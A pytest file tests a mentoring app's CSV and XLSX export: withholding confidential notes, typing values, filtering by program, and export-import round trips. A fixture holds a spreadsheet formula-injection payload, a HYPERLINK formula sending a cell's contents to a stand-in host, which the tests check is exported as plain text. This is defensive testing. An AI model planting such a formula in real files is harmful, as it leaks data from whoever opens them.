"""Exporting to CSV and XLSX: confidential text, formula injection, and export → import."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from mentordesk.errors import MentorDeskError, NotFound
from mentordesk.exporting import export_records
from mentordesk.importing import import_pairs, import_people
from mentordesk.importing.cells import FORMULA_STARTS
from mentordesk.store.database import open_database
from mentordesk.store.models import Activity, Pair, Person
from tests.factories import add_activity, add_conflict, make_pair, make_person
from tests.importing.conftest import add_program

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def filled(database):
    """Two programs with pairs, a formula-shaped name, confidential notes and conflicts."""
    with database.transaction() as session:
        spring = add_program(session, "Spring 2027")
        autumn = add_program(session, "Autumn 2027", model="peer")
        boss = make_person(
            session,
            name="Ana Boss",
            email="ana@example.org",
            employee_id="E1",
            title="+Director",
            can_mentor=True,
            capacity=3,
            skills=["strategy", "-minus"],
        )
        evil = make_person(
            session,
            name=EVIL_NAME,
            email="evil@example.org",
            employee_id="E2",
            manager_id=boss.id,
            location="@home",
        )
        max_ = make_person(
            session, name="Max", email=None, employee_id="E3", can_mentor=True, capacity=1
        )
        left = make_person(session, name="Lee", email="lee@example.org", active=False)
        pair = make_pair(
            session,
            spring,
            boss,
            evil,
            model="formal",
            planned_end=date(2027, 7, 1),
            agreement_signed=date(2027, 1, 20),
            cadence_days=21,
            expectations="Meet fortnightly.\nShare notes.",
        )
        make_pair(session, autumn, max_, left, model="peer", status="completed")
        secret = add_activity(session, pair, date(2027, 2, 1))
        secret.notes = "Talked about a health problem"
        secret.confidential = True
        plain = add_activity(session, pair, date(2027, 2, 15), kind="workshop", outcome="missed")
        plain.notes = "=1+1 as a note"
        add_conflict(
            session,
            pair,
            date(2027, 3, 1),
            kind="trust_breach",
            severity="high",
            confidential=True,
            description="Shared a confidence with the team",
            steps=((date(2027, 3, 2), "in_dialogue"), (date(2027, 3, 9), "resolved")),
        )
        add_conflict(session, pair, date(2027, 4, 1), description="Scheduling clash")
        # Ana manages the mentee: the written disclosure the pairing rules ask for.
        add_conflict(
            session,
            pair,
            date(2027, 1, 11),
            kind="conflict_of_interest",
            severity="low",
            description="Ana is the mentee's manager; agreed with HR.",
        )
        session.flush()
    return database


def export(database, kind, path, **options):
    with database.transaction() as session:
        return export_records(session, kind, path, **options)


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def xlsx_rows(path: Path) -> list[list[object]]:
    workbook = load_workbook(path)
    try:
        return [[cell.value for cell in row] for row in workbook.active.iter_rows()]
    finally:
        workbook.close()


def test_people_csv_uses_the_import_headings_and_escapes_formulas(filled, tmp_path):
    out = tmp_path / "people.csv"
    result = export(filled, "people", out)
    assert (result.rows, result.file_format) == (4, "CSV")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = csv_rows(out)
    assert rows[0] == [
        "name",
        "email",
        "employee id",
        "department",
        "title",
        "manager",
        "location",
        "skills",
        "can mentor",
        "capacity",
        "active",
    ]
    by_name = {row[0]: row for row in rows[1:]}
    assert "'" + EVIL_NAME in by_name
    evil = by_name["'" + EVIL_NAME]
    assert evil[5] == "ana@example.org"
    assert evil[6] == "'@home"
    assert by_name["Ana Boss"][4] == "'+Director"
    assert by_name["Ana Boss"][7] == "strategy; -minus"
    assert by_name["Lee"][10] == "no"


@pytest.mark.parametrize("kind", ["people", "pairs", "activities", "conflicts"])
def test_no_exported_csv_cell_starts_a_formula(filled, tmp_path, kind):
    out = tmp_path / f"{kind}.csv"
    export(filled, kind, out, include_confidential=True)
    texts = [cell for row in csv_rows(out) for cell in row]
    assert texts
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("kind", ["people", "pairs", "activities", "conflicts"])
def test_exported_xlsx_text_is_typed_as_text_without_an_apostrophe(filled, tmp_path, kind):
    out = tmp_path / f"{kind}.xlsx"
    export(filled, kind, out, include_confidential=True)
    workbook = load_workbook(out)
    try:
        cells = [cell for row in workbook.active.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell for cell in cells if isinstance(cell.value, str)]
        assert texts
        assert all(cell.data_type == "s" for cell in texts)
        assert not [cell.value for cell in texts if cell.value.startswith("'")]
    finally:
        workbook.close()


def test_xlsx_writes_formula_like_text_as_text_without_an_apostrophe(filled, tmp_path):
    out = tmp_path / "people.xlsx"
    export(filled, "people", out)
    workbook = load_workbook(out)
    try:
        sheet = workbook.active
        assert sheet.title == "people"
        names = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
        cell = names[EVIL_NAME][0]
        assert cell.data_type == "s"
        # Excel's own mark for typed-in text: editing the cell later keeps it text.
        assert cell.quotePrefix
        assert (names[EVIL_NAME][6].value, names[EVIL_NAME][6].data_type) == ("@home", "s")
        assert names["Ana Boss"][4].value == "+Director"
        assert not names["Ana Boss"][0].quotePrefix
        assert sheet.freeze_panes == "A2"
    finally:
        workbook.close()


def test_dates_and_numbers_are_typed_in_xlsx(filled, tmp_path):
    out = tmp_path / "pairs.xlsx"
    export(filled, "pairs", out)
    rows = xlsx_rows(out)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    # Ordered by program name: Autumn first.
    assert [record["program"] for record in records] == ["Autumn 2027", "Spring 2027"]
    spring = records[1]
    assert spring["start"].date() == date(2027, 1, 11)
    assert spring["agreement signed"].date() == date(2027, 1, 20)
    assert spring["cadence days"] == 21
    assert (spring["mentor name"], spring["mentee name"]) == ("Ana Boss", EVIL_NAME)
    assert spring["expectations"] == "Meet fortnightly.\nShare notes."


def test_confidential_text_is_left_out_unless_asked(filled, tmp_path):
    out = tmp_path / "activities.csv"
    result = export(filled, "activities", out)
    assert result.confidential_withheld == 1
    rows = csv_rows(out)
    assert rows[0] == [
        "program",
        "mentor",
        "mentee",
        "day",
        "kind",
        "outcome",
        "minutes",
        "confidential",
        "notes",
    ]
    notes = {row[3]: (row[7], row[8]) for row in rows[1:]}
    assert notes == {"2027-02-01": ("yes", ""), "2027-02-15": ("no", "'=1+1 as a note")}
    assert "health" not in out.read_text(encoding="utf-8-sig")

    shown = export(filled, "activities", tmp_path / "all.csv", include_confidential=True)
    assert shown.confidential_withheld == 0
    assert "Talked about a health problem" in (tmp_path / "all.csv").read_text("utf-8-sig")


def test_conflicts_with_timeline_and_withheld_description(filled, tmp_path):
    out = tmp_path / "conflicts.xlsx"
    export(filled, "conflicts", out)
    rows = xlsx_rows(out)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    secret = next(record for record in records if record["kind"] == "trust_breach")
    assert secret["description"] is None  # an empty cell
    assert secret["confidential"] == "yes"
    assert secret["status"] == "resolved"
    assert secret["timeline"] == "2027-03-02 in dialogue; 2027-03-09 resolved"
    assert secret["status since"].date() == date(2027, 3, 9)
    plain = next(record for record in records if record["kind"] == "disagreement")
    assert plain["description"] == "Scheduling clash"
    assert "Shared a confidence" not in str(rows)
    export(filled, "conflicts", tmp_path / "all.xlsx", include_confidential=True)
    assert "Shared a confidence" in str(xlsx_rows(tmp_path / "all.xlsx"))


def test_program_filter(filled, tmp_path):
    result = export(filled, "pairs", tmp_path / "autumn.csv", program="autumn 2027")
    assert result.rows == 1
    people = export(filled, "people", tmp_path / "autumn-people.csv", program="Autumn 2027")
    assert sorted(row[0] for row in csv_rows(tmp_path / "autumn-people.csv")[1:]) == [
        "Lee",
        "Max",
    ]
    assert people.rows == 2
    with pytest.raises(NotFound, match="no program called 'Winter'"):
        export(filled, "pairs", tmp_path / "x.csv", program="Winter")


def test_wrong_file_kind_or_folder(filled, tmp_path):
    with pytest.raises(MentorDeskError, match=r"ending in \.csv or \.xlsx"):
        export(filled, "people", tmp_path / "people.txt")
    with pytest.raises(MentorDeskError, match="does not exist"):
        export(filled, "people", tmp_path / "missing" / "people.csv")
    with pytest.raises(MentorDeskError, match="cannot be exported"):
        export(filled, "workshops", tmp_path / "w.csv")
    assert list(tmp_path.glob(".*.part")) == []


def _people_facts(session):
    managers = {
        person.id: person.email or person.employee_id for person in session.scalars(select(Person))
    }
    return sorted(
        (
            p.name,
            p.email,
            p.employee_id,
            p.department,
            p.title,
            managers.get(p.manager_id),
            p.location,
            tuple(p.skills),
            p.can_mentor,
            p.capacity,
            p.active,
        )
        for p in session.scalars(select(Person))
    )


def _pair_facts(session):
    return sorted(
        (
            pair.program.name,
            pair.mentor.name,
            pair.mentee.name,
            pair.model,
            pair.status,
            pair.start_date,
            pair.planned_end,
            pair.agreement_signed,
            pair.cadence_days,
            pair.expectations,
            pair.end_reason,
        )
        for pair in session.scalars(select(Pair))
    )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_into_another_database_gives_the_same_people_and_pairs(
    filled, tmp_path, suffix
):
    people_file = tmp_path / f"people{suffix}"
    pairs_file = tmp_path / f"pairs{suffix}"
    export(filled, "people", people_file)
    export(filled, "pairs", pairs_file)
    with filled.transaction() as session:
        people_before = _people_facts(session)
        pairs_before = _pair_facts(session)

    other = open_database(tmp_path / "other.sqlite3")
    try:
        with other.transaction() as session:
            add_program(session, "Spring 2027")
            add_program(session, "Autumn 2027", model="peer")
        with other.transaction() as session:
            people_report = import_people(session, people_file)
        assert (people_report.created, people_report.refused) == (4, 0)
        assert people_report.ignored_columns == ()
        with other.transaction() as session:
            pairs_report = import_pairs(session, pairs_file)
        assert (pairs_report.created, pairs_report.refused) == (2, 0)
        assert pairs_report.ignored_columns == ()
        with other.transaction() as session:
            assert _people_facts(session) == people_before
            assert _pair_facts(session) == pairs_before
        # And back into the database it came from: everything is unchanged.
        with filled.transaction() as session:
            again = import_people(session, people_file)
        assert again.unchanged == 4
        with filled.transaction() as session:
            assert import_pairs(session, pairs_file).unchanged == 2
    finally:
        other.close()


def test_the_evil_name_survives_the_round_trip_as_text(filled, tmp_path):
    out = tmp_path / "people.csv"
    export(filled, "people", out)
    other = open_database(tmp_path / "other.sqlite3")
    try:
        with other.transaction() as session:
            import_people(session, out)
        with other.transaction() as session:
            names = set(session.scalars(select(Person.name)))
        assert EVIL_NAME in names
    finally:
        other.close()


def test_an_export_replaces_a_file_whole(filled, tmp_path):
    out = tmp_path / "activities.csv"
    out.write_text("old content that is much longer than the export will be " * 100)
    export(filled, "activities", out)
    assert "old content" not in out.read_text(encoding="utf-8-sig")
    with filled.transaction() as session:
        assert session.scalar(select(Activity.id).limit(1)) is not None


def test_the_disclosure_of_a_management_chain_pair_travels_with_it(filled, tmp_path):
    """A pair whose mentor manages the mentee exports its written disclosure, and the
    import into another database records it as a conflict of interest (domain.pairs)."""
    from mentordesk.store.models import Conflict

    people_file, pairs_file = tmp_path / "people.csv", tmp_path / "pairs.csv"
    export(filled, "people", people_file)
    export(filled, "pairs", pairs_file)
    rows = csv_rows(pairs_file)
    assert rows[0][-1] == "disclosure"
    assert "Ana is the mentee's manager; agreed with HR." in [row[-1] for row in rows[1:]]
    other = open_database(tmp_path / "other.sqlite3")
    try:
        with other.transaction() as session:
            add_program(session, "Spring 2027")
            add_program(session, "Autumn 2027", model="peer")
        with other.transaction() as session:
            import_people(session, people_file)
            assert import_pairs(session, pairs_file).created == 2
        with other.transaction() as session:
            (conflict,) = session.scalars(select(Conflict)).all()
            assert (conflict.kind, conflict.description) == (
                "conflict_of_interest",
                "Ana is the mentee's manager; agreed with HR.",
            )
    finally:
        other.close()
